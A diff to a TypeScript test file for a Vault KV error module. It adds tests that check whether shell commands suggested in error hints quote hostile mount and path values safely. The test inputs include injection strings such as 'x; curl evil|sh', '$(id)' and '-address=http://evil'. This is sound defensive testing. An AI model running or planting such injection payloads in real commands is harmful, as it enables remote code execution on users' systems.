@@ -1,4 +1,5 @@
 import assert from "node:assert/strict";
+import { spawnSync } from "node:child_process";
 import { describe, test } from "node:test";
 import { VaultReferenceError } from "../../../controller/vault-kv/reference-error.ts";
 import { readItems } from "../../../controller/vault-kv/referenced-items.ts";
@@ -21,6 +22,12 @@ const failing = async (references: VaultReference[], kv: MemoryKv): Promise<Vaul
   );
   assert.ok(error instanceof VaultReferenceError);
   return error;
+};
+/** What a command `vault …` is given when a shell runs it. */
+const argumentsOf = (command: string): string[] => {
+  const said = spawnSync("sh", ["-c", `vault() { printf '%s\\0' "$@"; }; ${command}`]);
+  assert.deepEqual([said.status, said.stderr.toString()], [0, ""]);
+  return said.stdout.toString().split("\0").slice(0, -1);
 };
 
 describe("items that stand in Vault", () => {
@@ -114,6 +121,31 @@ describe("items that stand in Vault", () => {
       assert.match(error.message, words);
       assert.match(error.message, /^item a \(Vault, mount kv, path \S+\): /);
       assert.ok(!`${error.message} ${error.hint}`.includes("canary"));
+    });
+
+  for (const text of ["x; curl evil|sh", "it's", 'a"b', "a\nb", "$(id)", "`id`", "-address=http://evil"])
+    test(`commands in hints run nothing: ${JSON.stringify(text)}`, async () => {
+      const kinds: KvRead[] = [
+        { kind: "missing" },
+        { kind: "deleted", version: 2, deletedAt: null },
+        { kind: "destroyed", version: 2 },
+        { kind: "not-kv-2", found: "kv-1" },
+      ];
+      const heard: string[][] = [];
+      for (const read of kinds) {
+        const kv = new MemoryKv();
+        kv.readSecret = async () => read;
+        const { hint } = await failing([reference("a", { mount: text, path: text })], kv);
+        const command = hint.slice(hint.indexOf("vault kv"));
+        heard.push(argumentsOf(command));
+      }
+      const operand = text.startsWith("-") ? ["--", text] : [text];
+      assert.deepEqual(heard, [
+        ["kv", "put", `-mount=${text}`, ...operand, "…"],
+        ["kv", "undelete", `-mount=${text}`, "-versions=2", ...operand],
+        ["kv", "put", `-mount=${text}`, ...operand, "…"],
+        ["kv", "enable-versioning", ...operand],
+      ]);
     });
 
   test("a path with data/ before it gets the hint that it needs none", async () => {
